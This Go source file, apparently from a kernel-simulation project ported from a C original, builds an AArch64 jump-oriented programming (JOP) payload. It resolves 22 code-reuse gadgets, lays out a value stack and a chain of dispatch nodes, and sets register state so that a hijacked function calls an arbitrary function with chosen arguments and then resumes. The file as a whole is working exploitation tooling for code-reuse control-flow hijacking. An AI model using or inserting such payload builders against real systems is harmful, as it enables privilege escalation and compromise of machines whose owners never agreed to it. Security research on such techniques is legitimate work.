package jop

import (
	"ktsim/internal/gadget"
	"ktsim/internal/kerrors"
)

// Strategy1 layout offsets, all relative to the payload's own base address
// (spec.md §8 scenario 6 pins two of these literally: the word at 0x54 is
// the low half of func, and the word at 0x98 is arg0).
const (
	s1Row0       = 0x20 // x3,x4,x5,x6 <- 0, 0, 0, selfPtrAddr
	s1Row1       = 0x54 // x3,x4,x5,x6 <- func, 0, args[7], 0
	s1Row2       = 0x88 // x3,x4,x5,x6 <- args[1], args[2], args[0], 0
	s1Row3       = 0xbc // x3,x4,x5,x6 <- args[3], args[4], args[5], args[6]
	s1RowAdvance = 0x34 // x20 bump between each LoadRow

	s1ResultSlot = 0x9c // where x20 lands after walking all four rows

	s1SelfPtr       = 0x140 // self[0] = &self (recovers x8 robustly after the real call)
	s1SelfDispatch  = 0x168 // self[0x28] = &dispatch
	s1JopStackStart = 0x200
	s1NodeSize      = 0x10

	s1PayloadSize = 0x400
)

// Strategy1 is spec.md §4.F's baseline strategy: a dispatch gadget walks a
// JOP stack of (target, next) nodes that bootstrap every register the real
// function call needs from a four-row value stack, the way
// original_source/.../jop/call_strategy_1.c's build() does. Only pc and the
// seven registers jop_call_initial_state names (x0-x6) are set directly;
// x7-x12, x20-x22 and x30 are all populated by gadgets the JOP stack drives,
// matching the capacity the header's struct actually guarantees rather than
// the fuller register file this package's earlier revision assumed.
var Strategy1 = Strategy{
	Name: "strategy1",
	RequiredGadgets: []string{
		gadget.Dispatch, gadget.MovX12X2BrX3, gadget.MovX2X30BrX12,
		gadget.MovX8X4BrX5, gadget.MovX21X2BrX8, gadget.MovX20X0BlrX8,
		gadget.MovX10X4BrX8, gadget.MovX9X10BrX8, gadget.MovX11X9BrX8,
		gadget.LoadRow, gadget.MovX22X6BlrX8, gadget.AddX20X34BrX8,
		gadget.MovX12X3BrX8, gadget.MovX0X5BlrX8, gadget.MovX9X0BrX11,
		gadget.MovX7X9BlrX11, gadget.MovX0X3BlrX8, gadget.MovX1X9MovX2X10BlrX11,
		gadget.GadgetInvokeFunc, gadget.StoreResume1, gadget.MovX30X21BrX8,
		gadget.Ret,
	},
	PayloadSize:   s1PayloadSize,
	StackArgBytes: 0,
	MaxArgs:       8,
	Build:         buildStrategy1,
}

type s1Gadgets struct {
	dispatch, movX12X2BrX3, movX2X30BrX12, movX8X4BrX5, movX21X2BrX8      uint64
	movX20X0BlrX8, movX10X4BrX8, movX9X10BrX8, movX11X9BrX8, loadRow      uint64
	movX22X6BlrX8, addX20X34BrX8, movX12X3BrX8, movX0X5BlrX8, movX9X0BrX11 uint64
	movX7X9BlrX11, movX0X3BlrX8, movX1X9MovX2X10BlrX11                   uint64
	invokeFunc, storeResume, movX30X21BrX8, ret                          uint64
}

func resolveS1Gadgets(a BuildArgs) (s1Gadgets, error) {
	names := []string{
		gadget.Dispatch, gadget.MovX12X2BrX3, gadget.MovX2X30BrX12,
		gadget.MovX8X4BrX5, gadget.MovX21X2BrX8, gadget.MovX20X0BlrX8,
		gadget.MovX10X4BrX8, gadget.MovX9X10BrX8, gadget.MovX11X9BrX8,
		gadget.LoadRow, gadget.MovX22X6BlrX8, gadget.AddX20X34BrX8,
		gadget.MovX12X3BrX8, gadget.MovX0X5BlrX8, gadget.MovX9X0BrX11,
		gadget.MovX7X9BlrX11, gadget.MovX0X3BlrX8, gadget.MovX1X9MovX2X10BlrX11,
		gadget.GadgetInvokeFunc, gadget.StoreResume1, gadget.MovX30X21BrX8,
		gadget.Ret,
	}
	addrs := make([]uint64, len(names))
	for i, n := range names {
		v, ok := a.Gadgets.Resolve(n)
		if !ok {
			return s1Gadgets{}, kerrors.New(kerrors.FunctionalityUnavailable, "strategy1: %s gadget not resolved", n)
		}
		addrs[i] = v
	}
	return s1Gadgets{
		dispatch: addrs[0], movX12X2BrX3: addrs[1], movX2X30BrX12: addrs[2],
		movX8X4BrX5: addrs[3], movX21X2BrX8: addrs[4], movX20X0BlrX8: addrs[5],
		movX10X4BrX8: addrs[6], movX9X10BrX8: addrs[7], movX11X9BrX8: addrs[8],
		loadRow: addrs[9], movX22X6BlrX8: addrs[10], addX20X34BrX8: addrs[11],
		movX12X3BrX8: addrs[12], movX0X5BlrX8: addrs[13], movX9X0BrX11: addrs[14],
		movX7X9BlrX11: addrs[15], movX0X3BlrX8: addrs[16], movX1X9MovX2X10BlrX11: addrs[17],
		invokeFunc: addrs[18], storeResume: addrs[19], movX30X21BrX8: addrs[20],
		ret: addrs[21],
	}, nil
}

func buildStrategy1(a BuildArgs, buf []byte) (BuildResult, error) {
	g, err := resolveS1Gadgets(a)
	if err != nil {
		return BuildResult{}, err
	}

	base := a.PayloadAddr
	args := padArgs(a.Args, 8)

	// Value stack: four rows a LoadRow/AddX20X34BrX8 walk reads in order.
	// Row 3's slots line up 1:1 with the AArch64 argument registers they
	// feed (x3-x6 <- args[3..6]) so no relay is needed there; the earlier
	// rows carry values that land in the wrong register and get cached
	// into x7/x9/x10/x12 by dedicated mov gadgets before being overwritten.
	putU64(buf, s1Row0, 0)
	putU64(buf, s1Row0+8, 0)
	putU64(buf, s1Row0+0x10, 0)
	putU64(buf, s1Row0+0x18, base+s1SelfPtr)

	putU64(buf, s1Row1, a.Func)
	putU64(buf, s1Row1+8, 0)
	putU64(buf, s1Row1+0x10, args[7])
	putU64(buf, s1Row1+0x18, 0)

	putU64(buf, s1Row2, args[1])
	putU64(buf, s1Row2+8, args[2])
	putU64(buf, s1Row2+0x10, args[0])
	putU64(buf, s1Row2+0x18, 0)

	putU64(buf, s1Row3, args[3])
	putU64(buf, s1Row3+8, args[4])
	putU64(buf, s1Row3+0x10, args[5])
	putU64(buf, s1Row3+0x18, args[6])

	// Self-referential pointer StoreResume1 chases to re-derive x8 =
	// dispatch robustly after the real call, in case the hijacked function
	// clobbered x8 as a caller-saved register.
	putU64(buf, s1SelfPtr, base+s1SelfPtr)
	putU64(buf, s1SelfDispatch, g.dispatch)

	node := func(i int) uint64 { return base + s1JopStackStart + uint64(i*s1NodeSize) }
	n := 0
	write := func(target uint64) {
		next := node(n + 1)
		writeNode(buf, s1JopStackStart+n*s1NodeSize, target, next)
		n++
	}

	write(g.movX20X0BlrX8)           // 0:  x20 = x0 (value stack base)
	write(g.movX10X4BrX8)            // 1:  x10 = x4 (dispatch, still fresh)
	write(g.movX9X10BrX8)            // 2:  x9  = x10 (dispatch)
	write(g.movX11X9BrX8)            // 3:  x11 = x9 (dispatch alias, for br-x11-tailed gadgets)
	write(g.loadRow)                 // 4:  row0
	write(g.movX22X6BlrX8)           // 5:  x22 = x6 (self pointer)
	write(g.addX20X34BrX8)           // 6:  x20 += 0x34
	write(g.loadRow)                 // 7:  row1 (x3=func, x5=args[7])
	write(g.movX12X3BrX8)            // 8:  x12 = x3 (func, cached before row2 reload)
	write(g.movX0X5BlrX8)            // 9:  x0 = x5 (args[7])
	write(g.movX9X0BrX11)            // 10: x9 = x0 (args[7])
	write(g.movX7X9BlrX11)           // 11: x7 = x9 (args[7], final)
	write(g.addX20X34BrX8)           // 12: x20 += 0x34
	write(g.loadRow)                 // 13: row2 (x3=args[1], x4=args[2], x5=args[0])
	write(g.movX0X3BlrX8)            // 14: x0 = x3 (args[1])
	write(g.movX9X0BrX11)            // 15: x9 = x0 (args[1])
	write(g.movX10X4BrX8)            // 16: x10 = x4 (args[2])
	write(g.movX1X9MovX2X10BlrX11)   // 17: x1 = args[1], x2 = args[2], final
	write(g.movX0X5BlrX8)            // 18: x0 = x5 (args[0], final)
	write(g.addX20X34BrX8)           // 19: x20 += 0x34 (== s1ResultSlot henceforth)
	write(g.loadRow)                 // 20: row3 (x3-x6 already in their final registers)
	write(g.invokeFunc)              // 21: blr x12(func); br x8
	write(g.storeResume)             // 22: str x0,[x20]; re-derive x8; blr x8
	write(g.movX30X21BrX8)           // 23: x30 = x21 (saved caller return address)
	writeNode(buf, s1JopStackStart+n*s1NodeSize, g.ret, 0) // 24: ret

	var initial InitialState
	initial.PC = g.movX12X2BrX3
	initial.X[0] = base
	initial.X[1] = node(0)
	initial.X[2] = g.movX8X4BrX5
	initial.X[3] = g.movX2X30BrX12
	initial.X[4] = g.dispatch
	initial.X[5] = g.movX21X2BrX8
	// X[6] is unused by strategy 1.

	return BuildResult{Initial: initial, ResultAddr: base + s1ResultSlot}, nil
}
